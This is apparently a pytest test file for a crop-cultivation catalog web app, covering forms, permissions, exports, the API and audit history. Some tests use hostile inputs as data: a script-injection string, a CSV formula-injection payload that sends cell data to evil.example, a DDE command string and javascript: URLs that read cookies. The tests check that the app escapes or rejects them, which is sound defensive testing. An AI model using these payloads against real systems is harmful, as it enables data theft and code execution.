import csv
import io
import re

from tests.support.app import furrow
from tests.support.html import by_id, rows
from tests.support.html import soup as page_soup
from webapp.cultures.models import Culture
from webapp.extensions import db
from webapp.reference.library import library
from webapp.review.models import Change

TOMATO = {
    "name": "Tomate",
    "variety": "Harzfeuer",
    "growth_duration_days": "120",
    "harvest_method": "per_plant",
    "expected_yield": "3.5",
    "distance_within_row_cm": "50",
    "row_spacing_cm": "100",
    "cultivation_types": ["pre_cultivation"],
    "notes": "Stake early. <script>alert(1)</script>",
}


def add(**values):
    culture = Culture(**{"name": "Carrot", **values})
    db.session.add(culture)
    db.session.commit()
    return culture


def test_an_editor_creates_a_culture_and_its_reference_crop_is_found(client_as):
    editor = client_as("editor")
    response = editor.submit("/cultures/new", TOMATO, page="/cultures/new")
    assert response.status_code == 302
    culture = db.session.query(Culture).one()
    assert culture.reference_crop == "tomato"
    page = editor.get(response.headers["Location"]).get_data(as_text=True)
    assert "3.5 kg/plant" in page
    assert "50 cm" in page
    assert "<script>alert(1)</script>" not in page and "Stake early." in page


def test_invalid_input_rerenders_with_every_message_and_saves_nothing(client_as):
    editor = client_as("editor")
    bad = {
        **TOMATO,
        "name": "",
        "row_spacing_cm": "-3",
        "harvest_method": "",
        "harvest_duration_days": "20",
    }
    response = editor.submit("/cultures/new", bad, page="/cultures/new")
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "A culture needs a name." in page
    assert "Must not be negative." in page
    assert "A harvest duration needs a harvest method." in page
    assert 'value="Harzfeuer"' in page  # what was typed is kept
    assert db.session.query(Culture).count() == 0


def test_viewers_read_but_do_not_write(client_as):
    culture_id = add().id
    viewer = client_as("viewer")
    assert viewer.get(f"/cultures/{culture_id}").status_code == 200
    assert viewer.get("/cultures/new").status_code == 403
    assert viewer.submit(f"/cultures/{culture_id}/edit", {"name": "x"}).status_code == 403
    assert client_as("editor").submit(f"/cultures/{culture_id}/delete").status_code == 403
    assert client_as("reviewer").submit(f"/cultures/{culture_id}/delete").status_code == 302
    assert db.session.get(Culture, culture_id) is None


def test_editing_changes_only_what_was_changed(client_as):
    culture = add(row_spacing_cm=30.0, variety="Nantaise")
    editor = client_as("editor")
    form = editor.get(f"/cultures/{culture.id}/edit").get_data(as_text=True)
    assert 'value="Nantaise"' in form
    response = editor.submit(
        f"/cultures/{culture.id}/edit",
        {"name": "Carrot", "variety": "Nantaise", "row_spacing_cm": "25"},
        page=f"/cultures/{culture.id}/edit",
    )
    assert response.status_code == 302
    assert db.session.get(Culture, culture.id).row_spacing_cm == 25.0


def test_the_list_searches_filters_missing_fields_sorts_and_pages(client_as):
    add(name="Carrot", growth_duration_days=100)
    add(name="Cabbage")
    for n in range(30):
        add(name=f"Lettuce {n:02d}", growth_duration_days=60)
    viewer = client_as("viewer")
    page = viewer.get("/cultures?q=carr").get_data(as_text=True)
    assert "Carrot" in page and "Cabbage" not in page
    missing = viewer.get("/cultures?missing=growth_duration_days").get_data(as_text=True)
    assert "Cabbage" in missing and "Carrot" not in missing and "1 culture(s)." in missing
    first = viewer.get("/cultures?sort=name&dir=desc").get_data(as_text=True)
    assert "Lettuce 29" in first and "Carrot" not in first and "Page 1 of 2" in first
    fragment = viewer.get("/cultures?q=let", headers={"HX-Request": "true"}).get_data(as_text=True)
    assert fragment.lstrip().startswith('<section id="culture-table"')


def test_exports_keep_harvest_method_and_yield_apart(client_as):
    add(
        name="Tomato",
        harvest_method="per_plant",
        expected_yield=3.5,
        cultivation_types=["pre_cultivation"],
    )
    viewer = client_as("viewer")
    rows = list(
        csv.DictReader(io.StringIO(viewer.get("/cultures/export.csv").get_data(as_text=True)))
    )
    assert rows[0]["harvest_method"] == "per_plant" and rows[0]["expected_yield"] == "3.5"
    assert rows[0]["cultivation_types"] == '["pre_cultivation"]'
    data = viewer.get("/cultures/export.json").get_json()
    assert data[0]["expected_yield"] == 3.5 and data[0]["harvest_method"] == "per_plant"


def test_the_csv_export_cannot_run_formulas_and_the_json_export_stays_exact(client_as):
    """Issue 11 §4: these were written verbatim into /cultures/export.csv."""
    add(
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        variety="+cmd|' /C calc'!A0",
        notes="@SUM(1+1)",
        growth_duration_days=60,
    )
    viewer = client_as("viewer")
    row = next(csv.DictReader(io.StringIO(viewer.get("/cultures/export.csv").get_data(True))))
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["variety"] == "'+cmd|' /C calc'!A0"
    assert row["notes"] == "'@SUM(1+1)"
    assert row["growth_duration_days"] == "60"
    data = viewer.get("/cultures/export.json").get_json()[0]
    assert data["name"] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert (data["variety"], data["notes"]) == ("+cmd|' /C calc'!A0", "@SUM(1+1)")


def test_the_api_stores_only_web_pages_as_sources(client_as):
    """Issue 11 §6: a javascript: source was stored and rendered as a link."""
    editor = client_as("editor")
    headers = {"X-CSRFToken": editor.csrf_token("/")}
    source = {"title": "Click me", "url": "javascript:alert(document.cookie)"}
    body = {"name": "Kohl", "structured_sources": [source]}
    refused = editor.post("/api/v1/cultures", json=body, headers=headers)
    assert refused.status_code == 422
    assert refused.get_json()["error"]["details"]["fields"] == {
        "structured_sources": "Source 1: Give a web address that starts with http:// or https://."
    }
    source["url"] = "https://example.org/kohl"
    created = editor.post("/api/v1/cultures", json=body, headers=headers)
    assert created.status_code == 201
    page = editor.get(f"/cultures/{created.get_json()['id']}").get_data(as_text=True)
    assert 'href="https://example.org/kohl"' in page


def test_a_source_stored_before_as_javascript_is_shown_as_text(client_as):
    culture = add(structured_sources=[{"title": "Click me", "url": "javascript:alert(1)"}])
    page = client_as("viewer").get(f"/cultures/{culture.id}").get_data(as_text=True)
    assert "Click me" in page and "javascript:" not in page


def test_the_api_creates_reads_updates_and_deletes(client_as):
    editor = client_as("editor")
    token = editor.csrf_token("/")
    headers = {"X-CSRFToken": token}
    created = editor.post("/api/v1/cultures", json={"name": "Rote Bete"}, headers=headers)
    assert created.status_code == 201
    body = created.get_json()
    assert body["reference_crop"] == "table_beet"
    patched = editor.patch(
        f"/api/v1/cultures/{body['id']}", json={"row_spacing_cm": 30}, headers=headers
    )
    assert patched.get_json()["row_spacing_cm"] == 30.0
    refused = editor.patch(
        f"/api/v1/cultures/{body['id']}", json={"seed_rate_value": 2}, headers=headers
    )
    assert refused.status_code == 422
    assert refused.get_json()["error"]["details"]["fields"] == {
        "seed_rate_unit": "A seed rate needs its unit."
    }
    listed = editor.get("/api/v1/cultures?q=bete").get_json()
    assert listed["total"] == 1
    assert editor.delete(f"/api/v1/cultures/{body['id']}", headers=headers).status_code == 403
    not_json = editor.post("/api/v1/cultures", data="name=x", headers=headers)
    assert not_json.status_code == 400


def test_check_catalog_lists_implausible_stored_values_with_their_record(client_as):
    zucchini = add(
        name="Zucchini",
        reference_crop="zucchini",
        harvest_method="per_plant",
        expected_yield=40,
        distance_within_row_cm=80,
        row_spacing_cm=100,
    )
    add(
        name="Lettuce",
        reference_crop="lettuce",
        harvest_method="per_plant",
        expected_yield=1.0,
        distance_within_row_cm=25,
        row_spacing_cm=30,
    )
    add(name="Carrot", distance_within_row_cm=3, row_spacing_cm=25)
    viewer = client_as("viewer")
    response = viewer.get("/cultures/check")
    page = response.get_data(as_text=True)
    # The verdict comes first, then the findings by culture, with fields by their labels.
    verdict = by_id(response, "verdict").get_text(" ", strip=True)
    assert re.fullmatch(r"\d+ problem\(s\) in 3 culture\(s\) of 3 checked\.", verdict)
    assert page.index('id="verdict"') < page.index('id="findings"')
    assert "Expected yield" in by_id(response, "findings").get_text()
    assert f'href="/cultures/{zucchini.id}"' in page
    assert "yield_above_crop_cap" in page
    findings = viewer.get("/api/v1/cultures/check").get_json()["findings"]
    by_code = {(f["culture"], f["code"]) for f in findings}
    # A crop the library knows is held to its own cap (zucchini: 15 kg/plant).
    assert ("Zucchini", "yield_above_crop_cap") in by_code
    assert ("Lettuce", "yield_outside_typical_range") in by_code  # typical 0.3–0.8 kg/plant
    assert ("Carrot", "spacing_density_unusual") in by_code  # 133 plants/m²
    assert findings[0]["severity"] == "error"


def test_demo_cultures_load_once_into_an_empty_catalog(app):
    first = furrow(app, "demo")
    assert first.stdout.splitlines()[0] == f"added {len(library().crops)} demo cultures"
    again = furrow(app, "demo").stdout.splitlines()[0]
    assert again == "the catalog is not empty; no demo data"
    tomato = db.session.query(Culture).filter_by(reference_crop="tomato").one()
    assert tomato.name == "Tomato" and tomato.crop_family == "Solanaceae"


def test_every_edit_is_audited_and_shown_as_history(client_as):
    culture = add(row_spacing_cm=30.0)
    editor = client_as("editor")
    editor.submit(
        f"/cultures/{culture.id}/edit",
        {"name": "Carrot", "row_spacing_cm": "25", "variety": "Nantaise"},
        page=f"/cultures/{culture.id}/edit",
    )
    token = editor.csrf_token("/")
    editor.patch(
        f"/api/v1/cultures/{culture.id}",
        json={"expected_yield": 4.25, "harvest_method": "per_sqm"},
        headers={"X-CSRFToken": token},
    )
    changes = db.session.query(Change).order_by(Change.id).all()
    assert {(c.field, c.old_value, c.new_value, c.source) for c in changes} == {
        ("variety", "", "Nantaise", "manual"),
        # A new variety: the reference crop is found from the name again.
        ("reference_crop", None, "carrot", "manual"),
        ("row_spacing_cm", 30.0, 25.0, "manual"),
        ("harvest_method", None, "per_sqm", "manual"),
        ("expected_yield", None, "4.25", "manual"),
    }
    groups = {c.field: c.group_id for c in changes}
    assert groups["variety"] == groups["row_spacing_cm"] != groups["expected_yield"]
    assert {c.user_id for c in changes} == {editor.user.id}
    history = by_id(editor.get(f"/cultures/{culture.id}"), "history")
    assert [row[3:5] for row in rows(history) if row[2] == "Row spacing"] == [["30 cm", "25 cm"]]


def test_column_headers_sort_the_list_with_the_sort_in_the_url(client_as):
    add(name="Bean", growth_duration_days=90)
    add(name="Apple", growth_duration_days=None)
    add(name="Cress", growth_duration_days=10)
    viewer = client_as("viewer")
    page = viewer.get("/cultures?q=e")
    header = next(
        th for th in page_soup(page).find_all("th") if th.get_text(strip=True).endswith("Growth")
    )
    assert not header.has_attr("aria-sort")
    growth = viewer.get(header.a["href"])
    assert [r[0] for r in rows(page_soup(growth).find("table"))] == ["Cress", "Bean", "Apple"]
    sorted_header = page_soup(growth).find("th", attrs={"aria-sort": "ascending"})
    assert sorted_header.get_text(strip=True) == "▲Growth"
    assert "q=e" in sorted_header.a["href"] and "dir=desc" in sorted_header.a["href"]
    down = viewer.get(sorted_header.a["href"])
    # empty last whichever way
    assert [r[0] for r in rows(page_soup(down).find("table"))] == ["Bean", "Cress", "Apple"]
    assert page_soup(down).find("th", attrs={"aria-sort": "descending"})
